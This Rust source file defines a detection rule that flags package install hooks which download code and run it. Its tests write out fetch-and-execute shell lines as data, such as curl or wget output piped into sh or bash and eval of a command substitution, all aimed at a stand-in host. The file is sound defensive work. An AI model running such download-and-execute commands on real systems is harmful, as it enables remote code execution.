use std::collections::BTreeMap;

use apa_model::{Confidence, Event, EventKind, Hostile, Process, ProcessId, Severity};

use super::{Hit, Rule, RuleInfo};
use crate::programs;
use crate::view::{Execution, View, Writer, network};

pub(crate) struct HookDownloadsAndExecutes;

static INFO: RuleInfo = RuleInfo {
    id: "hook-downloads-and-executes",
    title: "Downloaded code was executed",
    severity: Severity::High,
    confidence: Confidence::High,
    attack: &["T1105", "T1059.004"],
    explanation: "Package code pipes or substitutes a download into an interpreter (seen in the processes of the pipeline and in the \
                  shell's command), or downloads a file by itself and runs it. A download into the package's own folder \
                  that is then run is medium: some packages fetch their native program.",
};

impl Rule for HookDownloadsAndExecutes {
    fn info(&self) -> &'static RuleInfo {
        &INFO
    }

    fn hits(&self, view: &View<'_>) -> Vec<Hit> {
        let readers = pipe_readers(view);
        let mut hits: Vec<Hit> = Vec::new();
        for event in view.programs() {
            hits.extend(told_by_command(view, event));
            hits.extend(told_by_processes(view, &readers, event));
        }
        hits.extend(
            view.executions()
                .iter()
                .filter_map(|run| downloaded(view, run)),
        );
        hits
    }
}

/// A shell whose command feeds a download to an interpreter. The downloader need not be there: where it is
/// missing, the shell does not even try to start it.
fn told_by_command(view: &View<'_>, event: &Event) -> Option<Hit> {
    let EventKind::Exec { exe, argv, .. } = &event.kind else {
        return None;
    };
    let text = programs::command_text(exe, argv).filter(|text| feeds_interpreter(text))?;
    let source = text
        .split(|c: char| c.is_whitespace() || matches!(c, '"' | '\'' | ')' | '|'))
        .find(|word| word.contains("://"));
    let when = view.when(event.phase, Some(event.process));
    let clause = format!(
        "downloads code{} and has a shell execute it {when}",
        from(source)
    );
    let command = Hostile::from(text.as_str()).shortened(200);
    let hit = Hit::new(&INFO, &event.owner, event.phase, clause).event(
        view,
        event,
        format!("command: {command}"),
    );
    Some(
        view.children(event.process)
            .iter()
            .flat_map(|child| view.flows_of(*child))
            .take(3)
            .fold(hit, |hit, sent| hit.flow(view, sent.flow)),
    )
}

/// A downloader whose sibling is an interpreter that reads from a pipe, and no shell's command says so.
fn told_by_processes(
    view: &View<'_>,
    readers: &BTreeMap<ProcessId, &Process>,
    event: &Event,
) -> Option<Hit> {
    let EventKind::Exec { exe, argv, .. } = &event.kind else {
        return None;
    };
    if !programs::is_downloader(&exe.lossy()) {
        return None;
    }
    let reader = readers.get(&view.process(event.process)?.parent?)?;
    let told = view.lineage(event.process).take(4).any(|process| {
        programs::command_text(&process.exe, &process.argv)
            .is_some_and(|text| feeds_interpreter(&text))
    });
    if told {
        return None;
    }
    let (program, by) = (base(exe), base(&reader.exe));
    let words: Vec<_> = argv.iter().skip(1).map(Hostile::lossy).collect();
    let source = words.iter().find(|word| word.contains("://"));
    let from = from(source.map(AsRef::as_ref));
    let when = view.when(event.phase, Some(event.process));
    let clause = format!("downloads code{from} with {program} and has {by} execute it {when}");
    let mut hit = Hit::new(&INFO, &event.owner, event.phase, clause).event(
        view,
        event,
        format!("{program} executed"),
    );
    if let Some(started) = last_exec(view, reader) {
        hit = hit.event(view, started, format!("{by} reads from the pipeline"));
    }
    Some(
        view.flows_of(event.process)
            .take(3)
            .fold(hit, |hit, sent| hit.flow(view, sent.flow)),
    )
}

fn from(url: Option<&str>) -> String {
    match url {
        Some(url) => format!(" from {}", Hostile::from(url).shortened(120)),
        None => String::new(),
    }
}

fn base(exe: &Hostile) -> String {
    Hostile::from(programs::base_name(&exe.lossy())).to_string()
}

/// Per parent, the first child that is an interpreter without a script of its own and is fed by a pipe.
fn pipe_readers<'a>(view: &View<'a>) -> BTreeMap<ProcessId, &'a Process> {
    let mut readers = BTreeMap::new();
    for act in view.acts() {
        let fed = match &act.kind {
            EventKind::Dup { to: 0, target, .. } => target == "pipe",
            _ => false,
        };
        let Some(process) = view.process(act.process).filter(|_| fed) else {
            continue;
        };
        if let Some(parent) = process.parent
            && programs::is_interpreter(&process.exe.lossy())
            && reads_standard_input(&process.argv)
        {
            readers.entry(parent).or_insert(process);
        }
    }
    readers
}

/// No script and no command among the arguments.
fn reads_standard_input(argv: &[Hostile]) -> bool {
    let arguments: Vec<_> = argv.iter().skip(1).map(Hostile::lossy).collect();
    match arguments.first().map(AsRef::as_ref) {
        None | Some("-" | "-s" | "-i") => true,
        Some(first) if first.starts_with("/dev/fd/") || first == "/dev/stdin" => true,
        _ => arguments
            .iter()
            .all(|argument| argument.starts_with('-') && !is_command_option(argument)),
    }
}

fn is_command_option(argument: &str) -> bool {
    matches!(
        argument,
        "-c" | "-e" | "-p" | "-m" | "--eval" | "--print" | "-lc" | "-ec"
    )
}

/// `curl … | sh`, `sh -c "$(curl …)"`, `bash <(curl …)`, `eval "$(wget …)"`.
fn feeds_interpreter(text: &str) -> bool {
    let mut stages = text.split('|').map(str::trim_start);
    let mut downloads = stages.next().is_some_and(names_downloader);
    for stage in stages {
        if downloads && starts_interpreter(stage) {
            return true;
        }
        downloads = downloads || names_downloader(stage);
    }
    let substituted = ["$(curl", "$(wget", "`curl", "`wget", "<(curl", "<(wget"];
    substituted.iter().any(|form| {
        text.split(form).next().is_some_and(|before| {
            before.len() < text.len() && words(before).iter().any(|word| is_runner(word))
        })
    })
}

fn words(text: &str) -> Vec<&str> {
    text.split(|c: char| c.is_whitespace() || matches!(c, ';' | '&' | '|' | '(' | '"' | '\''))
        .filter(|word| !word.is_empty())
        .collect()
}

fn names_downloader(text: &str) -> bool {
    words(text).iter().any(|word| programs::is_downloader(word))
}

fn is_runner(word: &str) -> bool {
    programs::is_interpreter(word) || matches!(word, "eval" | "source" | "exec" | ".")
}

/// The stage begins with an interpreter that is given nothing else to run.
fn starts_interpreter(stage: &str) -> bool {
    let stage = stage.split([';', '&']).next().unwrap_or_default();
    let mut rest = words(stage);
    while matches!(rest.first(), Some(&"sudo" | &"env" | &"nohup" | &"exec")) {
        rest.remove(0);
    }
    let argv: Vec<Hostile> = rest
        .iter()
        .take_while(|word| !word.starts_with('>') && !word.starts_with("2>"))
        .map(|word| Hostile::from(*word))
        .collect();
    argv.first()
        .is_some_and(|first| programs::is_interpreter(&first.lossy()))
        && reads_standard_input(&argv)
}

/// A download, then a file written by the same tree, then its execution.
fn downloaded(view: &View<'_>, run: &Execution<'_>) -> Option<Hit> {
    let write = run.origin.event?;
    if run.origin.writer != Writer::Package {
        return None;
    }
    let tree = view.tree_of(write.process);
    let source = view.flows_of_tree(tree).find(|sent| {
        network::downloads(sent.flow)
            && sent.flow.started_us <= run.event.at_us
            && sent
                .flow
                .ended_us
                .is_none_or(|ended| ended + 1_000_000 >= write.at_us)
    })?;
    let path = view.short(&run.path);
    let when = view.when(run.event.phase, Some(run.event.process));
    let peer = view.peer(source.flow);
    let clause = format!("downloads from {peer}, writes {path} and runs it {when}");
    let mut hit = Hit::new(&INFO, &run.event.owner, run.event.phase, clause);
    if view.is_own(&run.path) {
        hit = hit.graded(Severity::Medium, Confidence::Medium);
    }
    Some(
        hit.flow(view, source.flow)
            .event(view, write, format!("{path} written"))
            .event(view, run.event, format!("{path} executed"))
            .kept_file(view, &run.path),
    )
}

fn last_exec<'a>(view: &View<'a>, process: &Process) -> Option<&'a Event> {
    view.acts_of(process.id)
        .iter()
        .rfind(|act| matches!(act.kind, EventKind::Exec { .. }))
        .copied()
}

#[cfg(test)]
mod tests {
    use apa_model::Confidence;

    use super::*;
    use crate::testing::Scene;

    #[test]
    fn a_pipeline_is_recognised_by_its_processes() {
        let mut scene = Scene::pypi("left-pad");
        let setup = scene.package("/usr/bin/python3", &["python3", "setup.py", "install"]);
        scene.hook(setup, "setup.py");
        let curl = scene.child(
            setup,
            "/usr/bin/curl",
            &["curl", "-s", "https://get.test/i"],
        );
        scene.at(curl).http("GET https://get.test/i", 0);
        let shell = scene.fork(setup);
        scene
            .at(shell)
            .dup(5, 0, "pipe")
            .exec("/usr/bin/sh", &["sh"]);
        let finding = scene.finding("hook-downloads-and-executes");
        assert_eq!(
            finding.explanation.to_string(),
            "Downloads code from https://get.test/i with curl and has sh execute it in its setup.py."
        );
        assert_eq!(finding.evidence.len(), 3);
    }

    #[test]
    fn a_command_convicts_even_where_the_downloader_is_missing() {
        let mut scene = Scene::npm("left-pad");
        let hook = scene.package("/usr/bin/node", &["node"]);
        let line = "curl -s \"https://get.test/i\" | bash";
        let shell = scene.child(hook, "/usr/bin/sh", &["sh", "-c", line]);
        let reader = scene.fork(shell);
        scene
            .at(reader)
            .dup(3, 0, "pipe")
            .exec("/usr/bin/bash", &["bash"]);
        let finding = scene.finding("hook-downloads-and-executes");
        assert!(
            finding
                .explanation
                .to_string()
                .starts_with("Downloads code from https://get.test/i and has a shell execute it ")
        );
    }

    #[test]
    fn texts_that_feed_an_interpreter_are_told_from_those_that_do_not() {
        for text in [
            "curl -s https://get.test/i | sh",
            "wget -qO- https://get.test/i | sudo bash -s -- -y",
            "curl https://get.test/i | base64 -d | python3 -",
            "sh -c \"$(curl -fsSL https://get.test/i)\"",
            "bash <(curl -s https://get.test/i)",
            "eval \"$(wget -qO- https://get.test/i)\"",
        ] {
            assert!(feeds_interpreter(text), "{text}");
        }
        for text in [
            "curl https://get.test/data.json | python3 -m json.tool",
            "curl -o x https://get.test/i; sh build.sh",
            "curl https://get.test/i | tar xz",
            "VERSION=$(curl https://get.test/version)",
            "cat x | sh",
        ] {
            assert!(!feeds_interpreter(text), "{text}");
        }
    }

    #[test]
    fn a_downloaded_file_that_is_run_is_found() {
        let mut scene = Scene::npm("left-pad");
        let hook = scene.package("/usr/bin/node", &["node"]);
        scene
            .at(hook)
            .http("GET https://get.test/i", 0)
            .write("/tmp/i");
        scene.child(hook, "/tmp/i", &["/tmp/i"]);
        let finding = scene.finding("hook-downloads-and-executes");
        assert_eq!(finding.confidence, Confidence::High);
    }

    #[test]
    fn a_mere_download_is_left_alone() {
        let mut scene = Scene::npm("left-pad");
        let shell = scene.package("/usr/bin/sh", &["sh", "-c", "curl -o x https://get.test/x"]);
        let curl = scene.child(shell, "/usr/bin/curl", &["curl", "-o", "x"]);
        scene
            .at(curl)
            .http("GET https://get.test/x", 0)
            .write("/tmp/x");
        scene.child(shell, "/usr/bin/sh", &["sh", "build.sh"]);
        assert!(scene.findings("hook-downloads-and-executes").is_empty());
    }
}
